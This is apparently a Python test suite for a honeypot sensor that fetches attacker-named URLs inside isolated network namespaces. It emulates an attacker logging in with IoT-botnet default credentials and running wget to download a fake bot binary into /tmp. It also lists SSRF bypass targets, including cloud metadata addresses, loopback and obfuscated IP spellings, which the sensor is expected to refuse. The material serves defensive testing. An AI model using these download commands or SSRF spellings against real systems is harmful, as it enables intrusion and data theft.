"""What attackers name is fetched from real servers, and nothing else is reached: in two networks of the script's own.

The sensor is in one network namespace, the servers in another behind a cable; neither has a way to anywhere else. So the
servers may have addresses of the internet, and the program is the one that everybody runs.
"""

import hashlib
import os
import pathlib
import socket
import subprocess
import sys

if os.environ.get("KOMAINU_CHECK_NETWORK") != "own":
    # Whoever has no rights gets a user namespace around it.
    user = [] if os.geteuid() == 0 else ["--user", "--map-root-user"]
    os.environ["KOMAINU_CHECK_NETWORK"] = "own"
    os.execvp("unshare", ["unshare", *user, "--net", sys.executable, *sys.argv])

from harness import LIMIT_S, Sensor, check, equal, run, wait_until

# Addresses of the internet on both sides. Nothing that is sent to them leaves the two namespaces.
SENSOR, OWN, SERVER, SERVER6 = "45.0.0.1", "45.0.0.9", "45.0.0.2", "2a00:45::2"
# In a user namespace nobody may set groups, and in.tftpd does.
HAS_TFTP = open("/proc/self/setgroups").read().strip() == "allow"
SCRIPT = b"#!/bin/sh\n# Komainu was here, and this does nothing.\n" + bytes(range(256)) * 40


def do(*command):
    return subprocess.run([str(one) for one in command], check=True, capture_output=True, text=True).stdout


class Outside:
    """The other network, with its servers."""

    def __init__(self, folder):
        self.folder = folder
        self.running = []
        self.holder = subprocess.Popen(["unshare", "--net", "sleep", "600"])
        own = os.readlink("/proc/self/ns/net")
        wait_until("the other network", lambda: os.readlink(f"/proc/{self.holder.pid}/ns/net") != own)
        do("ip", "link", "set", "lo", "up")
        do("ip", "link", "add", "cable", "type", "veth", "peer", "name", "plug", "netns", self.holder.pid)
        do("ip", "addr", "add", f"{SENSOR}/24", "dev", "cable")
        do("ip", "addr", "add", "2a00:45::1/64", "dev", "cable", "nodad")
        do("ip", "addr", "add", "10.0.0.1/24", "dev", "cable")
        do("ip", "link", "set", "cable", "up")
        inside = ["nsenter", "--net", "--target", self.holder.pid]
        do(*inside, "ip", "link", "set", "lo", "up")
        for address in (f"{SERVER}/24", "10.0.0.2/24", "169.254.169.254/32"):
            do(*inside, "ip", "addr", "add", address, "dev", "plug")
        do(*inside, "ip", "addr", "add", f"{SERVER6}/64", "dev", "plug", "nodad")
        do(*inside, "ip", "link", "set", "plug", "up")
        do("ip", "route", "add", "169.254.169.254/32", "via", SERVER)
        self.files = folder / "files"
        self.files.mkdir()
        (self.files / "bot.arm").write_bytes(SCRIPT)
        (self.files / "large").write_bytes(b"x" * 70_000)
        self.serve()
        self.wait_open()

    def start(self, *command):
        inside = ["nsenter", "--net", "--target", str(self.holder.pid)]
        log = open(self.folder / "servers.log", "ab")
        self.running.append(
            subprocess.Popen(
                [*inside, *(str(one) for one in command)],
                stdout=log,
                stderr=log,
                stdin=subprocess.DEVNULL,
                cwd=self.files,
            )
        )

    def serve(self):
        self.start("busybox", "httpd", "-f", "-p", "80", "-h", self.files)
        certificate = ["-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=bot", "-days", "1"]
        do("openssl", "req", *certificate, "-keyout", self.folder / "key", "-out", self.folder / "cert")
        pair = ["-cert", self.folder / "cert", "-key", self.folder / "key"]
        self.start("openssl", "s_server", "-accept", "443", "-WWW", "-quiet", *pair)
        configuration = self.folder / "vsftpd.conf"
        options = {
            "listen": "YES",
            "background": "NO",
            "anonymous_enable": "YES",
            "anon_root": self.files,
            "run_as_launching_user": "YES",
            "pasv_address": "10.0.0.2",
            "seccomp_sandbox": "NO",
            "allow_writeable_chroot": "YES",
        }
        configuration.write_text("".join(f"{key}={value}\n" for key, value in options.items()))
        self.start("vsftpd", configuration)
        self.start("in.tftpd", "--foreground", "--secure", "--address", f"{SERVER}:69", "--user", "root", self.files)
        self.start("microsocks", "-i", SERVER, "-p", "1080")
        self.start(sys.executable, "-u", pathlib.Path(__file__).resolve(), "redirect")

    def wait_open(self):
        def is_open(port):
            with socket.socket() as probe:
                return probe.connect_ex((SERVER, port)) == 0

        for port in (80, 443, 21, 1080, 8000):
            wait_until(f"the server on port {port}", lambda: is_open(port))

    def stop(self):
        for process in [*self.running, self.holder]:
            process.kill()
            process.wait()


def redirect():
    """A web server that sends everybody to where the path says, for `python3 sensor_fetch.py redirect`."""
    import http.server

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", bytes.fromhex(self.path[1:]).decode())
            self.end_headers()

    http.server.ThreadingHTTPServer((SERVER, 8000), Handler).serve_forever()


class FetchingSensor(Sensor):
    """A sensor beside the servers, which fetches."""

    def __init__(self, folder):
        super().__init__(folder, configuration=configuration('mode = "direct"'))
        self.outside = Outside(folder)

    def stop(self):
        super().stop()
        self.outside.stop()

    def names(self, *urls, command="wget {} -O /tmp/x"):
        """A session in whose shell a command names URLs; the lines `fetch` of it, by URL, when all are there."""
        client = self.connect(23)
        port = client.getsockname()[1]
        client.settimeout(LIMIT_S)

        def until(end):
            seen = b""
            while not seen.rstrip().endswith(end):
                more = client.recv(4096)
                if not more:
                    raise AssertionError(f"the connection ended before {end}: {seen}")
                seen += more

        until(b"login:")
        client.sendall(b"root\r\n")
        until(b"Password:")
        client.sendall(b"xc3511\r\n")
        until(b"#")
        for url in urls:
            client.sendall(f"{command.format(url)}\r\n".encode())
            until(b"#")
        client.close()
        summary, _, _ = self.session(port)

        def look():
            lines = [line["fetch"] for line in self.lines("honeypot.json") if line["event_type"] == "fetch"]
            mine = {line["url"]: line for line in lines if line["session_id"] == summary["session"]["id"]}
            return mine if len(mine) == len(urls) else None

        return wait_until(f"what became of {urls}", look)


def configuration(fetch):
    return (
        f'[sensor]\nlisten = "127.0.0.1"\nconnections_per_source_max = 100\n[sensor.fetch]\n{fetch}\n'
        f'own_addresses = ["{OWN}"]\nbytes_max = 65536\nper_host_per_hour = 1000\ntimeout_s = 10\n'
    )


def outcomes(lines):
    return {url: (line["outcome"], line.get("why_not")) for url, line in lines.items()}


@check
def files_come_by_every_protocol(sensor):
    by_http, by_https, by_six = f"http://{SERVER}/bot.arm", f"https://{SERVER}/bot.arm", f"http://[{SERVER6}]/bot.arm"
    by_tftp = [f"tftp://{SERVER}/bot.arm"] if HAS_TFTP else []
    lines = sensor.names(by_http, by_https, by_six, f"ftp://{SERVER}/bot.arm", *by_tftp)
    sha256 = hashlib.sha256(SCRIPT).hexdigest()
    for url, line in lines.items():
        equal((line["outcome"], line.get("sha256"), line["bytes"]), ("fetched", sha256, len(SCRIPT)), line)
    equal(lines[by_http]["address"], SERVER)
    equal(lines[by_six]["address"], SERVER6)
    equal(lines[by_https]["certificate"]["error"] in ("unknown_issuer", "other_name", "not_valid", "no_roots"), True)
    equal(sensor.artifact(sha256), SCRIPT, "the file comes out as it was served")
    equal(outcomes(sensor.names(by_http)), {by_http: ("known", None)})


@check
def what_is_not_given_or_too_large(sensor):
    gone, large, closed = f"http://{SERVER}/gone", f"http://{SERVER}/large", f"http://{SERVER}:4444/"
    ftp = f"ftp://{SERVER}/gone"
    expected = {
        gone: ("failed", "status"),
        large: ("too_large", "bytes_max"),
        closed: ("failed", "not_connected"),
        ftp: ("failed", "status"),
    }
    if HAS_TFTP:
        expected[f"tftp://{SERVER}/gone"] = ("failed", "status")
    equal(outcomes(sensor.names(*expected)), expected)


@check
def nothing_inside_is_reached(sensor):
    refused = {}
    for address in ("10.0.0.2", "169.254.169.254", "127.0.0.1", "0.0.0.0", f"[::ffff:{SERVER}]", "[::1]"):
        refused[f"http://{address}/bot.arm"] = ("refused", "address_not_global")
    for address in (SENSOR, OWN, "[2a00:45::1]"):
        refused[f"http://{address}/x"] = ("refused", "own_address")
    for address in ("167772162", "0x0a000002", "012.0.0.2", "10.2"):
        refused[f"http://{address}/x"] = ("refused", "address_spelling")
    for name in ("localhost", "printer", "router.lan"):
        refused[f"http://{name}/x"] = ("refused", "host_name")
    refused[f"http://{SERVER}:25/"] = ("refused", "port")
    # A persona's wget takes its time to find that nobody answers.
    equal(outcomes(sensor.names(*refused, command="echo {}")), refused)


@check
def redirects_are_judged(sensor):
    def to(place):
        return f"http://{SERVER}:8000/{place.encode().hex()}"

    expected = {
        to(f"http://{SERVER}/bot.arm?again"): ("fetched", None),
        to("http://10.0.0.2/bot.arm"): ("refused", "address_not_global"),
        to("http://169.254.169.254/latest/meta-data/"): ("refused", "address_not_global"),
        to(f"http://{OWN}/"): ("refused", "own_address"),
        to("http://localhost/"): ("refused", "host_name"),
        to(f"ftp://{SERVER}/bot.arm"): ("refused", "scheme"),
        to("file:///etc/hostname"): ("refused", "scheme"),
    }
    equal(outcomes(sensor.names(*expected)), expected)


@check
def files_come_through_a_proxy(sensor):
    Sensor.stop(sensor)
    sensor.configuration.write_text(configuration(f'mode = "proxy"\nproxy = "socks5://{SERVER}:1080"'))
    sensor.start()
    expected = {
        f"http://{SERVER}/bot.arm?by-proxy": ("fetched", None),
        f"https://{SERVER}/bot.arm": ("fetched", None),
        "http://10.0.0.2/bot.arm": ("refused", "address_not_global"),
        f"tftp://{SERVER}/bot.arm": ("refused", "not_by_proxy"),
    }
    equal(outcomes(sensor.names(*expected)), expected)


@check
def nothing_is_fetched_unless_it_is_said(sensor):
    Sensor.stop(sensor)
    before = len(sensor.lines("honeypot.json"))
    sensor.configuration.write_text('[sensor]\nlisten = "127.0.0.1"\n')
    sensor.start()
    equal("URLs are fetched" in sensor.log.read_text(), False)
    client = sensor.connect(23)
    port = client.getsockname()[1]
    for line in (b"root\r\n", b"xc3511\r\n", f"wget http://{SERVER}/bot.arm?off\r\n".encode(), b"exit\r\n"):
        client.sendall(line)
    while client.recv(4096):
        pass
    summary, _, _ = sensor.session(port)
    equal([url["url"] for url in summary["urls"]], [f"http://{SERVER}/bot.arm?off"])
    lines = sensor.lines("honeypot.json")[before:]
    equal([line for line in lines if line["event_type"] == "fetch"], [])


if sys.argv[1:] == ["redirect"]:
    redirect()
else:
    run(FetchingSensor)
